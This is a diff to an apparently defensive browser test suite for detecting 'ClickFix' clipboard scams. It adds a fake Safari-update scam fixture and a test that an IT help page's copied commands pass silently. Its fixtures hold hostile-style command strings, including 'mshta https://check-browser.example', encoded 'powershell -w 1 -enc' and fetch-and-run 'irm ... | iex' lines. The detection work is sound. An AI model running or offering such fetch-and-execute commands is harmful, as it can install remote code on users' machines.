@@ -22,6 +22,7 @@ const SCAM = [
   ['clickfix-cloudflare.html', 'shop-check.example', '#verify', 'mshta https://check-browser.example', 'check-browser[.]example'],
   ['clickfix-filefix.html', 'hr-portal-share.example', '#copy', 'files-hr.example', 'files-hr[.]example'],
   ['clickfix-de.html', 'browser-update-hilfe.example', '#fix', 'powershell -w 1 -enc', 'powershell -w 1 -enc'],
+  ['clickfix-mac-update.html', 'safari-update-center.example', '#update', 'cdn-upd.example', 'cdn-upd[.]example'],
 ];
 
 /** A real click (user activation), as a person gives it. */
@@ -202,6 +203,14 @@ for (const name of BROWSERS) {
       await copiesSilently(fixtureUrl('benign-dev-docs-windows.html', 'docs.example-cli-win.test'), [
         ['ps', 'irm https://get.example.test/install.ps1 | iex'],
         ['msi', 'msiexec /i https://dl.example.test/example-cli.msi /qn'],
+      ]);
+    });
+
+    test('benign-it-help.html: an IT help page ("not working? To fix it", Win+X, Run box) that shows its commands stays silent and still copies', async () => {
+      await copiesSilently(fixtureUrl('benign-it-help.html', 'it.northfield.test'), [
+        ['teams', 'irm https://it.northfield.test/scripts/fix-teams-audio.ps1 | iex'],
+        ['wifi', 'powershell -NoProfile -Command "netsh winsock reset"'],
+        ['drives', 'cmd /c \\\\dc01\\netlogon\\logon.bat'],
       ]);
     });
   });
